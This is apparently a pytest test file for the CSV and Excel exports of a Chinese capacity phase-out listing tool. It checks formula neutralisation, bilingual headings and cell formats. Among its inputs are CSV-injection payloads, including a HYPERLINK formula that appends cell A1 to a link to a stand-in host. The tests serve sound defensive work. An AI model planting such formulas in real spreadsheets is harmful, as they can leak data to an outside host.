"""The exports' one rule for cells: nothing a spreadsheet would run, text as text, numbers as
numbers (OWASP's CSV injection rule)."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from phaseout_aggregator.app.exit_list import ExitList, ExitRow, Total
from phaseout_aggregator.app.exports import csv_text, neutralise, to_csv, to_xlsx
from phaseout_aggregator.app.names import Named


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_text_starting_like_a_formula_is_prefixed(start: str) -> None:
    assert neutralise(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("value", ["深圳市某水泥有限公司", "kiln", "", "a=b", -1, Decimal("-2.5")])
def test_other_cells_are_kept(value: object) -> None:
    assert neutralise(value) == value


def test_csv_neutralises_every_cell_and_opens_with_a_bom_in_either_language() -> None:
    rows = [["名称", "产能"], ['=HYPERLINK("http://x"&A1,"x")', Decimal("-3")]]
    text = csv_text(rows)
    assert text.startswith("\ufeff"), "Excel on a Chinese desktop reads UTF-8 only after a BOM"
    table = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    assert table[1] == ['\'=HYPERLINK("http://x"&A1,"x")', "-3"]


def _row(n: int, **changes: object) -> ExitRow:
    values: dict[str, object] = dict(
        uscc="91440300708461136T",
        name=f"深圳市示范钢铁有限公司{n:03d}",
        district="futian",
        industry="steel",
        dimension="technology",
        item="blast_furnace",
        capacity_amount=Decimal("800000.5"),
        capacity_unit="t/a",
        legal_basis="technology: T5-steel-blast-furnace (catalogue 2019.1)",
        item_name=Named(zh="炼铁高炉", en="iron-making blast furnace"),
        basis=Named(zh="淘汰 400 立方米及以下炼铁高炉", en="Eliminate blast furnaces"),
        unit_name=Named(zh="吨/年", en="tonnes a year"),
        status_name=Named(zh="已退出", en="Exited"),
        opened_on=date(2019, 5, 6),
        exited_on=date(2019, 6, 20),
        status="exited",
    )
    values.update(changes)
    return ExitRow.model_validate(values)


def _exits(rows: int) -> ExitList:
    total = Total(
        industry="steel",
        capacity_unit="t/a",
        unit_name=Named(zh="吨/年", en="tonnes a year"),
        capacity_amount=Decimal("800000.5") * rows,
        items=rows,
    )
    listed = [_row(n) for n in range(rows)] + [_row(rows, name="=1+1", opened_on=None)]
    return ExitList(
        as_of=date(2020, 3, 1), rows=listed, totals=[total], total=len(listed), limit=None, offset=0
    )


def test_the_exit_list_workbook_is_in_the_bureaus_layout() -> None:
    data = to_xlsx(_exits(3), "zh", ["福田区", "2019 年"])
    book = load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["退出清单", "合计"]
    sheet = book["退出清单"]
    assert sheet["A1"].value == "依法关闭退出的落后产能企业清单" and sheet["A1"].font.b
    assert "A1:M1" in {str(r) for r in sheet.merged_cells.ranges}, "the title is one heading"
    assert sheet["A2"].value == "范围：福田区、2019 年    截至：2020-03-01"
    assert "A2:M2" in {str(r) for r in sheet.merged_cells.ranges}
    headings = [c.value for c in sheet[3]]
    assert headings[:6] == [
        "序号",
        "所在区",
        "企业名称",
        "统一社会信用代码",
        "行业",
        "退出生产线或设备",
    ]
    assert headings[-1] == "责任单位" and all(c.font.b for c in sheet[3])
    assert sheet.freeze_panes == "A4", "the heading stays while the rows scroll"
    assert sheet.auto_filter.ref == "A3:M7", "a filter over the heading and every row"
    widths = {k: d.width for k, d in sheet.column_dimensions.items()}
    assert widths["C"] >= 30 and widths["D"] >= 20 and widths["I"] >= 50 and widths["A"] < 10
    first = [c.value for c in sheet[4]]
    assert first[:8] == [
        1,
        "福田区",
        "深圳市示范钢铁有限公司000",
        "91440300708461136T",
        "钢铁",
        "炼铁高炉",
        800000.5,
        "吨/年",
    ]
    assert first[11:] == ["已退出", "市工业和信息化局"]
    amount, opened = sheet["G4"], sheet["J4"]
    assert amount.data_type == "n" and amount.number_format == "#,##0.####"
    assert opened.is_date and opened.number_format == "yyyy-mm-dd"
    assert opened.value.date() == date(2019, 5, 6)
    assert sheet["D4"].data_type == "s" and sheet["D4"].number_format == "@"
    assert sheet["C7"].value == "'=1+1" and sheet["C7"].data_type == "s"
    assert sheet["J7"].value is None, "no date, an empty cell"
    totals = book["合计"]
    assert [c.value for c in totals[4]] == ["钢铁", "吨/年", 2400001.5, 3]
    assert totals.freeze_panes == "A4" and totals.auto_filter.ref == "A3:D4"


def test_the_english_workbook_names_every_code_in_english() -> None:
    book = load_workbook(io.BytesIO(to_xlsx(_exits(1), "en")))
    sheet = book["Exit list"]
    assert sheet["A2"].value == "Scope: City-wide    As of: 2020-03-01"
    row = [c.value for c in sheet[4]]
    assert row[1] == "Futian" and row[4] == "Steel" and row[5] == "iron-making blast furnace"
    assert row[7] == "tonnes a year" and row[11] == "Exited"
    assert row[12] == "Industry and Information Technology Bureau"


def test_the_csv_is_the_same_list_named_with_a_bom() -> None:
    text = to_csv(_exits(2), "zh")
    assert text.startswith("\ufeff序号,所在区,企业名称,统一社会信用代码")
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    assert rows[1][1:6] == [
        "福田区",
        "深圳市示范钢铁有限公司000",
        "91440300708461136T",
        "钢铁",
        "炼铁高炉",
    ]
    assert rows[1][7] == "吨/年" and rows[1][11] == "已退出"
